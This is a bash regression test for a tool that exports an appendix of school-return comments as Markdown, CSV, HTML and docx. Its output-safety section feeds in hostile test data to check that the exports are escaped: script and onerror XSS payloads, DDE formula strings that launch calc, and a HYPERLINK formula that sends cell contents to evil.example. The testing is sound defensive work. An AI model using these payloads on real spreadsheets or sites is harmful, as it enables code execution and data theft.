#!/usr/bin/env bash
# returns appendix: the approved Markdown file; every matching comment
# exactly once, in district, collaborative, position order; html and docx;
# on hostile data (tests/data/hostile) a CSV a spreadsheet reads as text
# and an html page with nothing injected.
# usage: appendix_test.sh PATH/TO/returns SOURCE_DIR
source "$(dirname "$0")/lib.sh" "$@"

tag_corpus
db2="$work/db2"
build_db "$db2"

"$returns" appendix --db "$db2" --theme learning_walks --format md >"$work/appendix.md"
cmp -s "$work/appendix.md" "$src/tests/approved/appendix-learning-walks.md"
check "appendix md matches the approved file (diff: $(diff "$work/appendix.md" "$src/tests/approved/appendix-learning-walks.md" | head -5))" $?

# Every matching comment exactly once, grouped by question, district, collaborative, in return order.
"$returns" appendix --db "$db2" --theme moderation --format csv >"$work/appendix.csv"
python3 -c "
import csv, json
rows = list(csv.DictReader(open('$work/appendix.csv', newline='')))
want = {(r['return_id'], r['position']) for r in map(json.loads, open('$work/t1.jsonl')) if 'moderation' in r['themes']}
got = [(r['return_id'], int(r['position'])) for r in rows]
assert len(got) == len(set(got)) and set(got) == want, (len(got), len(want))
keys = [(int(r['question']), r['district'], r['collaborative'], r['return_id'], int(r['position'])) for r in rows]
# Sections by question; within one, district then collaborative then position in the return.
assert [k[0] for k in keys] == sorted(k[0] for k in keys)
for q in {k[0] for k in keys}:
    section = [k[1:] for k in keys if k[0] == q]
    assert section == sorted(section), section
"; check "appendix: each matching comment once, in district, collaborative, position order" $?
"$returns" appendix --db "$db2" --question 3 --format html >"$work/appendix.html"
[ "$(grep -o '<p class="quote">' "$work/appendix.html" | wc -l)" -eq "$(grep -c '"question":3' "$work/t1.jsonl")" ]
check "html appendix of question 3 holds every comment of question 3 once" $?

if command -v pandoc >/dev/null; then
  "$returns" appendix --db "$db2" --theme elc --format docx --out "$work/elc.docx"
  pandoc -f docx -t html "$work/elc.docx" >"$work/elc.txt" 2>/dev/null
  grep -q "Appendix: theme elc" "$work/elc.txt" && grep -q "Weald Consortium" "$work/elc.txt" && grep -q "first cohort is complete" "$work/elc.txt"
  check "docx appendix converts back to the text it should hold" $?
fi
# Output safety: hostile labels, names and text (tests/data/hostile).
hostile="$work/hostile"
build_hostile_db "$hostile"
dover="Dover <script>document.body.dataset.pwned='district'</script>"
evil="\"><img src=x onerror=\"document.body.dataset.pwned='collaborative'\"> & Co"
tab=$'\t'
heading="Priority 1 ' onmouseover='document.body.dataset.pwned=1' \" onfocus=\"document.body.dataset.pwned=2\""
"$returns" appendix --db "$hostile" --format csv >"$work/hostile.csv"
check_output csv "$work/hostile.csv" --expect "$dover" --expect "$evil" --expect "$heading" \
  --expect "'=HYPERLINK(\"http://evil.example/?\"&A1,\"moderation report\")" \
  --expect "'+44 moderation <script>document.body.dataset.pwned='text'</script> and a learning walk" \
  --expect "'-2+3+cmd|' /C calc'!A0 moderation" --expect "'@SUM(1+1)*cmd|' /C calc'!A0 learning walk" \
  --expect "'${tab}Tab first: moderation planned <img src=x onerror=\"document.body.dataset.pwned='img'\">" \
  --expect "'-Thanet" --expect "'@Group" --expect "'+Plus School" --expect "'=Swale" \
  --expect "St Mary's & St John's <b>CE</b>; =HYPERLINK(\"http://evil.example/\",\"click\")"
check "regression: appendix --format csv: cells starting with = + - @ or a tab are text to a spreadsheet; text quoted" $?
for theme in "" learning_walks; do
  "$returns" appendix --db "$hostile" --format html ${theme:+--theme "$theme"} >"$work/hostile$theme.html"
  headed=(--expect "$heading:")  # the heading's comment has no learning walk
  [ -z "$theme" ] || headed=()
  check_output html "$work/hostile$theme.html" --expect "$dover" --expect "$evil" "${headed[@]}" \
    --expect "+44 moderation <script>document.body.dataset.pwned='text'</script> and a learning walk" \
    --expect "St Mary's & St John's <b>CE</b>; =HYPERLINK(\"http://evil.example/\",\"click\")" \
    --expect "Plain & \"Quoted\" 'Group'" --expect "<i>Lead</i>"
  check "appendix --format html ${theme:+--theme $theme}: names, headings and comments escaped; nothing injected" $?
done
"$returns" appendix --db "$hostile" --format html "walk OR '<script>x</script>'" >"$work/hostile-query.html"
check_output html "$work/hostile-query.html" --expect "Appendix: query \"walk OR '<script>x</script>'\""
check "appendix html: the query in the title and heading escaped" $?

expect_error "appendix: docx needs --out" 2 "docx needs --out" "$returns" appendix --db "$db2" --format docx

finish appendix
